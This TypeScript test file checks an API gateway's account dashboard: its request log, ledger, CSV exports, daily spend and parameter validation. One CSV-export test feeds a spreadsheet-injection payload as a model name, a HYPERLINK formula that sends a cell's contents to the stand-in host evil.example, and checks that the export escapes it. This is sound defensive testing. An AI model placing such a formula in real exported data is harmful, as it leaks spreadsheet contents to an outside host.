import { afterAll, beforeAll, describe, expect, it, setDefaultTimeout } from "bun:test";
import type { TestGateway } from "../support/gateway.ts";
import { getWithKey, postWithApiKey, sqlAll, sqlGet } from "../support/keyed.ts";
import { body, Browser, dashboardGateway, registeredBrowser, refusedWith } from "./support.ts";

// Every login and registration hashes a password with Argon2id: a few seconds a test on a loaded machine.
setDefaultTimeout(30_000);

// docs/dashboard.md, The account's figures: the ledger, the request log, its CSV and the daily spend
// of the session's own account, the figures the CLI and sqlite3 see.

let gw: TestGateway;
beforeAll(async () => {
  gw = await dashboardGateway();
});
afterAll(() => gw.stop());

const DAY = 24 * 3600 * 1000;

const chat = (key: string, model = "demo") => postWithApiKey(gw, "/v1/chat/completions", { model, max_tokens: 8, messages: [{ role: "user", content: "hi" }] }, key);

/** A registered holder with one key (or more), its account id and the key's id. */
async function holderWithKey(rules: Record<string, unknown> = {}) {
  const b = await registeredBrowser(gw);
  const me = await body(await b.call("GET", "/api/me"));
  const k = await body(await b.call("POST", "/api/keys", rules));
  return { b, accountId: me.id as number, key: k.key as string, keyId: k.id as number };
}

/** The request ids of a list answer, in its order. */
const ids = (list: Record<string, any>) => (list.data as { request_id: string }[]).map((r) => r.request_id);

const get = async (b: Browser, path: string) => body(await b.call("GET", path));

describe("GET /api/requests", () => {
  it("lists the account's requests newest first, with key, model, status, tokens and cost but no content", async () => {
    const h = await holderWithKey({ name: "ci" });
    const first = (await chat(h.key)).headers.get("x-gateway-request-id")!;
    const second = (await chat(h.key)).headers.get("x-gateway-request-id")!;
    const list = await get(h.b, "/api/requests");
    expect(list.object).toBe("list");
    expect(ids(list)).toEqual([second, first]);
    const row = sqlGet<{ cost_nano: number; input_tokens: number }>(gw, "SELECT cost_nano, input_tokens FROM request_logs WHERE request_id = ?", second);
    expect(list.data[0]).toMatchObject({
      request_id: second,
      key_id: h.keyId,
      key_name: "ci",
      model: "demo-text-1",
      endpoint: "chat.completions",
      path: "/v1/chat/completions",
      status: 200,
      error_code: null,
      input_tokens: row.input_tokens,
      cost_usd: row.cost_nano / 1e9,
    });
    expect(Object.keys(list.data[0]).sort()).toEqual(
      ["request_id", "created_at", "key_id", "key_prefix", "key_name", "model", "endpoint", "path", "status", "error_code", "input_tokens", "output_tokens",
        "cache_read_tokens", "cache_write_tokens", "cache_write_1h_tokens", "web_searches", "service_tier", "inference_geo", "images", "image_input_tokens", "image_output_tokens", "cost_usd", "latency_ms", "stream", "attempts"].sort(),
    );
    expect(list.next).toBeNull();
  });

  it("shows no request of another account", async () => {
    const a = await holderWithKey();
    const other = await holderWithKey();
    await chat(other.key);
    const mine = (await chat(a.key)).headers.get("x-gateway-request-id")!;
    expect(ids(await get(a.b, "/api/requests"))).toEqual([mine]);
  });

  it("filters by key_id", async () => {
    const h = await holderWithKey();
    const second = await body(await h.b.call("POST", "/api/keys", {}));
    await chat(h.key);
    const only = (await chat(second.key)).headers.get("x-gateway-request-id")!;
    expect(ids(await get(h.b, `/api/requests?key_id=${second.id}`))).toEqual([only]);
  });

  it("refuses a key_id of another account with 404 key_not_found", async () => {
    const h = await holderWithKey();
    const other = await holderWithKey();
    await refusedWith(await h.b.call("GET", `/api/requests?key_id=${other.keyId}`), 404, "key_not_found");
  });

  it("filters by model, an alias finding the canonical id", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    expect((await get(h.b, "/api/requests?model=demo-text")).data).toHaveLength(1);
    expect((await get(h.b, "/api/requests?model=demo-image-1")).data).toHaveLength(0);
  });

  it("filters by status, a number or a class", async () => {
    const h = await holderWithKey();
    const ok = (await chat(h.key)).headers.get("x-gateway-request-id")!;
    const refusedCall = await chat(h.key, "gpt-9");
    expect(refusedCall.status).toBe(404);
    const bad = refusedCall.headers.get("x-gateway-request-id")!;
    expect(ids(await get(h.b, "/api/requests?status=2xx"))).toEqual([ok]);
    expect(ids(await get(h.b, "/api/requests?status=404"))).toEqual([bad]);
    expect((await get(h.b, "/api/requests?status=4xx")).data[0]).toMatchObject({ request_id: bad, status: 404, error_code: "model_not_found" });
  });

  it("keeps the requested model of a 404 model_not_found", async () => {
    const h = await holderWithKey();
    const refused = await chat(h.key, "gpt-9");
    expect(refused.status).toBe(404);
    expect((await get(h.b, "/api/requests")).data[0]).toMatchObject({ status: 404, error_code: "model_not_found", model: "gpt-9" });
  });

  it("keeps the requested model of a 429 quota", async () => {
    const h = await holderWithKey({ quota_usd: 0.000001 });
    let refused = await chat(h.key);
    for (let i = 0; i < 3 && refused.status !== 429; i++) refused = await chat(h.key);
    expect(refused.status).toBe(429);
    const id = refused.headers.get("x-gateway-request-id")!;
    const row = (await get(h.b, "/api/requests?status=429")).data.find((r: { request_id: string }) => r.request_id === id);
    expect(row).toMatchObject({ status: 429, error_code: "quota", model: "demo-text-1" });
  });

  it("filters the failures, every status from 400", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    const bad = (await chat(h.key, "gpt-9")).headers.get("x-gateway-request-id")!;
    expect(ids(await get(h.b, "/api/requests?status=failures"))).toEqual([bad]);
  });

  it("filters by since and until", async () => {
    const h = await holderWithKey();
    const id = (await chat(h.key)).headers.get("x-gateway-request-id")!;
    const at = sqlGet<{ created_at: number }>(gw, "SELECT created_at FROM request_logs WHERE request_id = ?", id).created_at;
    const isoAt = (ms: number) => new Date(ms).toISOString();
    expect(ids(await get(h.b, `/api/requests?since=${isoAt(at)}`))).toEqual([id]);
    expect(ids(await get(h.b, `/api/requests?since=${isoAt(at + 1)}`))).toEqual([]);
    expect(ids(await get(h.b, `/api/requests?until=${isoAt(at + 1)}`))).toEqual([id]);
    expect(ids(await get(h.b, `/api/requests?until=${isoAt(at)}`))).toEqual([]);
    expect(ids(await get(h.b, `/api/requests?since=${isoAt(at).slice(0, 10)}`))).toEqual([id]);
  });

  it("pages with the cursor, stable while new requests are written", async () => {
    const h = await holderWithKey();
    const made: string[] = [];
    for (let i = 0; i < 5; i++) made.push((await chat(h.key)).headers.get("x-gateway-request-id")!);
    const first = await get(h.b, "/api/requests?limit=2");
    expect(ids(first)).toEqual([made[4]!, made[3]!]);
    expect(first.next).toBe(made[3]!);
    await chat(h.key);
    const second = await get(h.b, `/api/requests?limit=2&before=${first.next}`);
    expect(ids(second)).toEqual([made[2]!, made[1]!]);
    const third = await get(h.b, `/api/requests?limit=2&before=${second.next}`);
    expect(ids(third)).toEqual([made[0]!]);
    expect(third.next).toBeNull();
  });

  it("refuses a cursor that is not a request of this account", async () => {
    const h = await holderWithKey();
    const other = await holderWithKey();
    const theirs = (await chat(other.key)).headers.get("x-gateway-request-id")!;
    expect(await refusedWith(await h.b.call("GET", `/api/requests?before=${theirs}`), 400, "invalid_request")).toStartWith("before: ");
  });

  it("reads one account's rows along the (key_id, created_at) index", () => {
    const plans = sqlAll<{ detail: string }>(
      gw,
      "EXPLAIN QUERY PLAN SELECT * FROM request_logs WHERE key_id = 1 AND account_id = 1 AND created_at <= 5 ORDER BY created_at DESC, request_id DESC LIMIT 51",
    ).map((p) => p.detail);
    expect(plans.join(" | ")).toContain("USING INDEX request_logs_key_time");
    expect(plans.join(" | ")).not.toContain("TEMP B-TREE");
  });
});

describe("GET /api/requests.csv", () => {
  it("answers every matching row of the account as a CSV attachment with a header row", async () => {
    const h = await holderWithKey();
    const other = await holderWithKey();
    const theirs = (await chat(other.key)).headers.get("x-gateway-request-id")!;
    const mine = [(await chat(h.key)).headers.get("x-gateway-request-id")!, (await chat(h.key)).headers.get("x-gateway-request-id")!];
    const res = await h.b.call("GET", "/api/requests.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toStartWith("text/csv");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="requests.csv"');
    const lines = (await res.text()).trimEnd().split("\r\n");
    expect(lines[0]).toBe("request_id,created_at,key_id,key_prefix,key_name,model,endpoint,path,status,error_code,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,web_searches,service_tier,inference_geo,images,image_input_tokens,image_output_tokens,cost_usd,latency_ms,stream,attempts");
    expect(lines.slice(1).map((l) => l.split(",")[0])).toEqual([mine[1]!, mine[0]!]);
    expect(lines.join("\n")).not.toContain(theirs);
  });

  it("has a column for every field of a GET /api/requests row, in its order, the same values", async () => {
    const h = await holderWithKey({ name: "ci" });
    await chat(h.key);
    const row = (await get(h.b, "/api/requests")).data[0] as Record<string, unknown>;
    const [header, line] = (await (await h.b.call("GET", "/api/requests.csv")).text()).trimEnd().split("\r\n");
    expect(header!.split(",")).toEqual(Object.keys(row));
    expect(line!.split(",")).toEqual(Object.values(row).map((v) => (v === null ? "" : String(v))));
  });

  it("takes the same filters", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    const bad = (await chat(h.key, "gpt-9")).headers.get("x-gateway-request-id")!;
    const lines = (await (await h.b.call("GET", "/api/requests.csv?status=4xx")).text()).trimEnd().split("\r\n");
    expect(lines.slice(1).map((l) => l.split(",")[0])).toEqual([bad]);
  });

  it("writes a model name a spreadsheet would run as a formula as text, with a leading apostrophe", async () => {
    // Anyone holding the key names the model; a refused request keeps the name it gave.
    const h = await holderWithKey();
    await chat(h.key, '=HYPERLINK("https://evil.example/?"&A2,"open")');
    const lines = (await (await h.b.call("GET", "/api/requests.csv")).text()).trimEnd().split("\r\n");
    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A2,""open"")",`);
  });

  it("writes a key name that starts with + - or @ as text too, and its figures as numbers", async () => {
    const h = await holderWithKey({ name: "@SUM(1+1)" });
    await chat(h.key);
    const [header, row] = (await (await h.b.call("GET", "/api/requests.csv")).text()).trimEnd().split("\r\n").map((l) => l.split(","));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell("key_name")).toBe("'@SUM(1+1)");
    expect(cell("cost_usd")).toMatch(/^\d+\.\d+$/);
  });

  it("refuses a request without a session", async () => {
    await refusedWith(await new Browser(gw.url).call("GET", "/api/requests.csv"), 401, "no-session");
  });
});

describe("GET /api/ledger", () => {
  it("shows the registration credit on its own and the charges grouped per UTC day", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    await chat(h.key);
    const charged = sqlGet<{ n: number; s: number }>(gw, "SELECT count(*) AS n, sum(amount_nano) AS s FROM ledger_entries WHERE account_id = ? AND kind = 'charge'", h.accountId);
    const list = await get(h.b, "/api/ledger");
    const today = new Date().toISOString().slice(0, 10);
    expect(list.data).toHaveLength(2);
    expect(list.data[0]).toMatchObject({ kind: "charges", day: today, count: charged.n, amount_usd: charged.s / 1e9 });
    expect(list.data[1]).toMatchObject({ kind: "registration_credit", amount_usd: 1, external_ref: null });
    expect(list.next).toBeNull();
  });

  it("puts each day's charges in their own group, newest day first, between the credits of their time", async () => {
    const h = await holderWithKey();
    const base = Date.UTC(2026, 0, 10, 12);
    const add = (kind: string, nano: number, at: number) =>
      gw.services.db.$client.run("INSERT INTO ledger_entries (account_id, kind, amount_nano, note, created_at) VALUES (?, ?, ?, ?, ?)", [h.accountId, kind, nano, kind === "charge" ? null : "by hand", at]);
    add("charge", -10, base);
    add("charge", -20, base + 1000);
    add("operator_credit", 5_000_000_000, base + 2000);
    add("charge", -30, base + DAY);
    const list = await get(h.b, "/api/ledger");
    const old = list.data.filter((e: { created_at: string }) => e.created_at < "2026-02");
    expect(old).toEqual([
      { kind: "charges", day: "2026-01-11", amount_usd: -30 / 1e9, count: 1, created_at: new Date(base + DAY).toISOString() },
      { kind: "operator_credit", amount_usd: 5, note: "by hand", external_ref: null, created_at: new Date(base + 2000).toISOString() },
      { kind: "charges", day: "2026-01-10", amount_usd: -30 / 1e9, count: 2, created_at: new Date(base + 1000).toISOString() },
    ]);
  });

  it("pages with the cursor, stable while charges and credits keep coming", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    gw.services.ledger.credit(h.accountId, 2_000_000_000, "operator_credit", "second");
    const whole = (await get(h.b, "/api/ledger")).data;
    expect(whole.map((e: { kind: string }) => e.kind)).toEqual(["operator_credit", "charges", "registration_credit"]);
    const first = await get(h.b, "/api/ledger?limit=1");
    expect(first.data).toEqual([whole[0]]);
    // Written between the pages: a charge of today and a credit; the pages go on as the first saw it.
    await chat(h.key);
    gw.services.ledger.credit(h.accountId, 1_000_000_000, "operator_credit", "third");
    const second = await get(h.b, `/api/ledger?limit=1&before=${first.next}`);
    expect(second.data).toEqual([whole[1]]);
    const third = await get(h.b, `/api/ledger?limit=1&before=${second.next}`);
    expect(third.data).toEqual([whole[2]]);
    expect(third.next).toBeNull();
  });

});

describe("GET /api/ledger.csv", () => {
  const lines = async (b: Browser) => (await (await b.call("GET", "/api/ledger.csv")).text()).trimEnd().split("\r\n");

  it("answers the whole ledger as a CSV attachment, the same entries as GET /api/ledger with exact amounts", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    await chat(h.key);
    await gw.services.ledger.credit(h.accountId, 2_500_000_001, "operator_credit", "thanks, and sorry");
    const res = await h.b.call("GET", "/api/ledger.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toStartWith("text/csv");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="ledger.csv"');
    const charged = sqlGet<{ n: number; s: number }>(gw, "SELECT count(*) AS n, sum(amount_nano) AS s FROM ledger_entries WHERE account_id = ? AND kind = 'charge'", h.accountId);
    const list = (await get(h.b, "/api/ledger")).data as { created_at: string }[];
    const today = new Date().toISOString().slice(0, 10);
    expect((await res.text()).trimEnd().split("\r\n")).toEqual([
      "created_at,kind,day,count,amount_usd,note,external_ref",
      `${list[0]!.created_at},operator_credit,,,2.500000001,"thanks, and sorry",`,
      `${list[1]!.created_at},charges,${today},${charged.n},-0.${String(-charged.s).padStart(9, "0").replace(/0+$/, "")},,`,
      `${list[2]!.created_at},registration_credit,,,1,starting balance,`,
    ]);
  });

  it("answers every entry, past the 500 a page of GET /api/ledger holds", async () => {
    const h = await holderWithKey();
    for (let i = 0; i < 520; i++) await gw.services.ledger.credit(h.accountId, 1, "operator_credit", `n${i}`);
    const rows = (await lines(h.b)).slice(1);
    expect(rows).toHaveLength(521);
    expect(new Set(rows.map((r) => r.split(",")[5])).size).toBe(521);
  });

  it("refuses a request without a session", async () => {
    await refusedWith(await new Browser(gw.url).call("GET", "/api/ledger.csv"), 401, "no-session");
  });
});

describe("GET /api/usage/daily", () => {
  it("gives the account's spend per key for each of the last days, with the daily total", async () => {
    const h = await holderWithKey({ name: "first" });
    const second = await body(await h.b.call("POST", "/api/keys", {}));
    await chat(h.key);
    await chat(second.key);
    const cost = (keyId: number) => sqlGet<{ s: number }>(gw, "SELECT sum(cost_nano) AS s FROM request_logs WHERE key_id = ?", keyId).s;
    const u = await get(h.b, "/api/usage/daily?days=3");
    const today = new Date().toISOString().slice(0, 10);
    expect(u).toMatchObject({ object: "usage", by: "key" });
    expect(u.days).toHaveLength(3);
    expect(u.days[2]).toBe(today);
    const byId = new Map(u.series.map((s: { id: number }) => [s.id, s]));
    expect(byId.get(h.keyId)).toEqual({ id: h.keyId, label: "first", cost_usd: [0, 0, cost(h.keyId) / 1e9] });
    expect(byId.get(second.id)).toEqual({ id: second.id, label: second.prefix, cost_usd: [0, 0, cost(second.id) / 1e9] });
    expect(u.total_usd).toEqual([0, 0, (cost(h.keyId) + cost(second.id)) / 1e9]);
  });

  it("gives it per model with by=model", async () => {
    const h = await holderWithKey();
    await chat(h.key);
    const u = await get(h.b, "/api/usage/daily?days=1&by=model");
    expect(u.series.map((s: { id: string; label: string }) => [s.id, s.label])).toEqual([["demo-text-1", "demo-text-1"]]);
  });

  it("counts no other account's spend", async () => {
    const h = await holderWithKey();
    const other = await holderWithKey();
    await chat(other.key);
    const u = await get(h.b, "/api/usage/daily?days=1");
    expect(u.series).toEqual([]);
    expect(u.total_usd).toEqual([0]);
  });

});

describe("the keys' last use and the low-balance notice", () => {
  it("shows when each key was last used, null before its first request", async () => {
    const h = await holderWithKey();
    const unused = await body(await h.b.call("POST", "/api/keys", {}));
    expect(unused.last_used_at).toBeNull();
    const id = (await chat(h.key)).headers.get("x-gateway-request-id")!;
    const at = sqlGet<{ created_at: number }>(gw, "SELECT created_at FROM request_logs WHERE request_id = ?", id).created_at;
    const keys = (await get(h.b, "/api/keys")).data;
    expect(keys.map((k: { last_used_at: string | null }) => k.last_used_at)).toEqual([new Date(at).toISOString(), null]);
  });

  it("shows the holder's low-balance notice on GET /v1/me", async () => {
    const h = await holderWithKey();
    const meOf = async () => (await getWithKey(gw, "/v1/me", h.key).then((r) => r.json())) as { low_balance: unknown };
    expect((await meOf()).low_balance).toEqual({ threshold_usd: null, below: false });
    await h.b.call("PUT", "/api/me/low-balance", { threshold_usd: 2 });
    expect((await meOf()).low_balance).toEqual({ threshold_usd: 2, below: true });
  });
});

describe("a parameter the route cannot read", () => {
  const cases: [string, string][] = [
    ["/api/requests?status=ok", "status"],
    ["/api/requests?since=yesterday", "since"],
    ["/api/requests?account=1", "account"],
    ["/api/requests?limit=0", "limit"],
    ["/api/requests.csv?limit=10", "limit"],
    ["/api/ledger.csv?limit=10", "limit"],
    ["/api/usage/daily?by=day", "by"],
    ["/api/usage/daily?days=400", "days"],
    ["/api/ledger?before=yesterday", "before"],
    ["/api/requests?key_id=ci", "key_id"],
    ["/api/requests.csv?key_id=", "key_id"],
    ["/api/usage/summary?key_id=1.0", "key_id"],
    ["/api/requests?model=", "model"],
    ["/api/usage/summary?model=", "model"],
  ];
  for (const [path, name] of cases) {
    it(`is refused on ${path} with 400 invalid_request naming ${name}`, async () => {
      const h = await holderWithKey();
      expect(await refusedWith(await h.b.call("GET", path), 400, "invalid_request")).toStartWith(`${name}: `);
    });
  }
});
